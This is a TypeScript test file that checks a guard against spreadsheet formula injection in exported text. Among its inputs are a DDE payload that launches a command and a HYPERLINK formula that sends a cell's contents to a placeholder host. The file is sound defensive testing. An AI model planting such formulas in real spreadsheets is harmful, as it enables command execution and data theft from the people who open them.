import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { readSharedText, sharedDataAvailable } from '#tests/support/shared-data.ts'
import { guardFormula, unguardFormula } from './formula-guard.ts'

describe('what a spreadsheet would run is disarmed', () => {
  test.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    '+1+1',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)',
    '@anna_shop',
    '- ոչինչ',
    '\t=1+1',
    '\r=1+1',
    '\ttext',
    '  =1+1',
    '\u200b=1+1',
    '＝1+1',
    '＋1',
    '－1+1',
    '＠SUM(1)',
    '−1+1',
    '+374-77-000101',
    '-1-1',
    '+',
    '-',
  ])('%j', (text) => {
    expect(guardFormula(text)).toBe(`'${text}`)
  })
})

describe('what only begins like a formula stays readable', () => {
  test.each([
    '+37477000101',
    '+374 55 000103',
    '+374 (55) 00 01 03',
    '-500',
    '-0.5',
    '-12 500,75',
    '+5',
    'ներբան = տակացու',
    'a@b.am',
    '2026-00412',
    "'",
    '',
  ])('%j', (text) => {
    expect(guardFormula(text)).toBe(text)
  })
})

test('every text comes back as it was, whatever apostrophes it begins with', () => {
  const hostile = fc.stringMatching(/^['=+\-@\t ＝0-9.a]{0,8}$/)
  fc.assert(
    fc.property(fc.oneof(fc.string({ unit: 'binary' }), hostile), (text) => {
      expect(unguardFormula(guardFormula(text))).toBe(text)
    }),
    { numRuns: 2_000 },
  )
})

test('nothing guarded begins with a sign that a spreadsheet reads as the start of a formula', () => {
  fc.assert(
    fc.property(fc.stringMatching(/^['=+\-@\t\r\n ＝＋－＠a1]{1,6}$/), (text) => {
      const guarded = guardFormula(text)
      expect(/^[=@\t\r\n＝＋－＠]/.test(guarded)).toBe(false)
      if (/^[+-]/.test(guarded)) expect(guarded).toMatch(/^[+-]1[1 ]*$/)
    }),
    { numRuns: 2_000 },
  )
})

test.runIf(sharedDataAvailable('security-strings/csv-injection/csv-payload.txt'))(
  'the known payloads are disarmed',
  () => {
    const payloads = readSharedText('security-strings/csv-injection/csv-payload.txt').split('\n').filter(Boolean)
    expect(payloads.length).toBeGreaterThan(3)
    for (const payload of payloads) expect(guardFormula(payload)).not.toMatch(/^[=+\-@]/)
  },
)
